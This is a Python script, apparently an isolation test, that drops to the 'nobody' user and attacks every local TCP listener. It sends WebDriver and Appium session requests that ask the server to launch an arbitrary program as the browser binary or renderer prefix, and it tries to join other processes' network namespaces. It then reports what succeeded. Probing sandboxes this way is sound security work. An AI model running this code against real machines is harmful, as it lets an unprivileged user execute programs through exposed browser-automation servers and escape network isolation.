"""A user without rights who asks every TCP listener of the machine for a session that runs a program.

``python session_attacker.py ORDER`` becomes uid 65534, posts to each port of loopback that listens in its own network
but those that ORDER spares, and tries to enter the networks of its ``pids``.
It prints one JSON object of what came of that.
"""

from __future__ import annotations

import ctypes
import encodings.idna  # noqa: F401 - nobody may not read the library that it would be loaded from later
import http.client
import json
import os
import sys
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

NOBODY = 65534
LISTEN = "0A"
CLONE_NEWNET = 0x40000000


def listeners() -> list[int]:
    """Every TCP port that somebody listens at in our network."""
    ports = set()
    for table in ("tcp", "tcp6"):
        for line in Path("/proc/net", table).read_text().splitlines()[1:]:
            fields = line.split()
            if fields[3] == LISTEN:
                ports.add(int(fields[1].rpartition(":")[2], 16))
    return sorted(ports)


def sessions(program: str) -> list[tuple[str, object]]:
    """What Appium and chromedriver are asked in order to run ``program``."""
    options = {"binary": program, "args": ["--headless=new", f"--renderer-cmd-prefix={program}"]}
    chrome = {"browserName": "chrome", "goog:chromeOptions": options}
    appium = {
        **chrome, "platformName": "linux", "appium:automationName": "Chromium", "appium:executable": program,
        "appium:autodownloadEnabled": False,
    }  # fmt: skip
    return [
        ("/session", {"capabilities": {"alwaysMatch": asked, "firstMatch": [{}]}}) for asked in (appium, chrome)
    ] + [("/wd/hub/session", {"capabilities": {"alwaysMatch": appium}, "desiredCapabilities": appium})]


def post(port: int, path: str, body: object) -> str:
    """Returns how one listener answered."""
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=5)
    try:
        connection.request("POST", path, json.dumps(body), {"Content-Type": "application/json"})
        answer = connection.getresponse()
        return f"{answer.status} {answer.read(200).decode(errors='replace')}"
    except (OSError, http.client.HTTPException) as error:
        return type(error).__name__
    finally:
        connection.close()


def enter(pid: int) -> str:
    """Returns what the kernel says to our entering the network of ``pid``; empty when it lets us."""
    libc = ctypes.CDLL(None, use_errno=True)
    try:
        descriptor = os.open(f"/proc/{pid}/ns/net", os.O_RDONLY)
    except OSError as error:
        return type(error).__name__
    refused = libc.setns(descriptor, CLONE_NEWNET) != 0
    return os.strerror(ctypes.get_errno()) if refused else ""


def main() -> None:
    """Attacks, as nobody."""
    order = json.loads(sys.argv[1])
    program, spared = order["program"], set(order["spared"])
    os.setgroups([])
    os.setresgid(NOBODY, NOBODY, NOBODY)
    os.setresuid(NOBODY, NOBODY, NOBODY)
    asked = [(port, path, body) for port in listeners() if port not in spared for path, body in sessions(program)]
    with ThreadPoolExecutor(16) as attackers:
        said = list(attackers.map(lambda order: post(*order), asked))
    answers: dict[int, list[str]] = {}
    for (port, _path, _body), answer in zip(asked, said, strict=True):
        answers.setdefault(port, []).append(answer)
    entered = {pid: enter(pid) for pid in order["pids"]}
    print(json.dumps({"uid": os.getuid(), "answers": answers, "entered": entered}))


if __name__ == "__main__":
    main()
